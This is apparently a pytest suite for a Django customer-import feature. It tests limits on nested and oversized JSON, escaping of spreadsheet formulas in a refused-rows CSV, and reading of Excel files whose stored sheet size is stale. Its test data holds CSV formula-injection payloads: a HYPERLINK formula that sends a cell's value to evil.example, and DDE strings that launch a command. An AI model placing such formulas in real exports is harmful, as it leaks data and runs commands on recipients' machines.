"""Hostile or odd input: JSON nested deep or sent huge, formulas in the refused-rows CSV, an Excel file
whose stored sheet size is stale (customers.parsers, customers.exports, customers.importing)."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from customers import tasks
from customers.exports import neutralise_cell
from customers.importing import import_file
from customers.models import Customer, ImportBatch
from tests import factories

pytestmark = pytest.mark.django_db


@pytest.fixture
def manager_headers(moscow) -> dict[str, str]:
    user = factories.make_user("integration", "manager", dealerships=(moscow,))
    return {"Authorization": f"Token {factories.api_token(user)}"}


def _post_raw(client, headers, body: str | bytes):
    return client.post(reverse("api-customers-bulk"), body, content_type="application/json", headers=headers)


@pytest.mark.parametrize("depth", [40, 100_000])
def test_deeply_nested_json_is_a_400_naming_the_limit(client, manager_headers, depth):
    # when
    response = _post_raw(client, manager_headers, '{"rows": ' + "[" * depth + "]" * depth + "}")
    # then
    assert response.status_code == 400
    assert response.json() == {"detail": "The JSON is nested more than 32 levels deep."}
    assert not Customer.objects.exists()


def test_a_body_over_the_limit_is_refused_before_it_is_parsed(client, manager_headers, settings):
    # given: 3 MB, over Django's 2.5 MB default
    rows = ",".join(f'{{"external_id": "C-{n}", "last_name": "Иванов", "first_name": "Пётр"}}' for n in range(40_000))
    body = '{"rows": [' + rows + "]}"
    assert len(body.encode()) > settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    # when
    response = _post_raw(client, manager_headers, body)
    # then
    assert response.status_code == 413
    assert "larger than 2621440 bytes" in response.json()["detail"]


def test_broken_json_is_a_400_that_says_so(client, manager_headers):
    response = _post_raw(client, manager_headers, '{"rows": [NaN]}')
    assert response.status_code == 400 and response.json()["detail"].startswith("The body is not valid JSON")


def test_an_ordinary_bulk_request_still_works(client, manager_headers):
    response = client.post(reverse("api-customers-bulk"), {"rows": [{"external_id": "C-1", "last_name": "Иванов",
                                                                     "first_name": "Пётр"}]},
                           content_type="application/json", headers=manager_headers)
    assert response.status_code == 200 and response.json()["created"] == 1


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+7 (916) 123-45-67", "+7 (916) 123-45-67"),
    ("-15", "-15"),
    ("Иванов", "Иванов"),
    ("", ""),
])
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(cell, written):
    assert neutralise_cell(cell) == written


def test_the_refused_rows_csv_does_not_give_back_live_formulas(client, manager, moscow):
    # given: a refused row (no first name) whose cells are formulas
    client.force_login(manager)
    text = 'Код клиента;Фамилия;Имя;Телефон\nR-1;"=HYPERLINK(""http://evil.example"",""x"")";;@SUM(1)\n'
    batch = ImportBatch.objects.create(kind="customers", dealership=moscow, uploaded_by=manager, file_name="c.csv",
                                       file_content=text.encode(), is_dry_run=True)
    tasks.run_import(batch.pk)
    # when
    lines = client.get(reverse("customers:import_refused", args=[batch.pk]),
                       headers={"Accept-Language": "ru"}).content.decode("utf-8-sig").splitlines()
    # then
    assert lines[1].startswith('R-1;"\'=HYPERLINK(""http://evil.example"",""x"")";;\'@SUM(1);2;')


def _with_stale_dimension(content: bytes, stale: str) -> bytes:
    """The workbook with its first sheet's stored size rewritten, as some DMS exporters leave it."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, replaced = re.subn(rb'<dimension ref="[^"]+"\s*/>', f'<dimension ref="{stale}"/>'.encode(), data)
                assert replaced == 1
            target.writestr(item, data)
    return out.getvalue()


def test_an_excel_file_with_a_stale_sheet_size_is_read_whole(moscow):
    # given: 100 customers in a workbook that says it is two rows tall
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Код клиента", "Фамилия", "Имя", "Телефон"])
    for n in range(100):
        sheet.append([f"C-{n}", "Иванов", "Пётр", f"+7916{n:07d}"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    content = _with_stale_dimension(buffer.getvalue(), "A1:D2")
    assert openpyxl.load_workbook(io.BytesIO(content), read_only=True).worksheets[0].max_row == 2
    # when
    report = import_file(kind="customers", content=content, dealership=moscow, dry_run=False)
    # then
    assert (report.total, report.created, len(report.refused)) == (100, 100, 0)
    assert Customer.objects.count() == 100
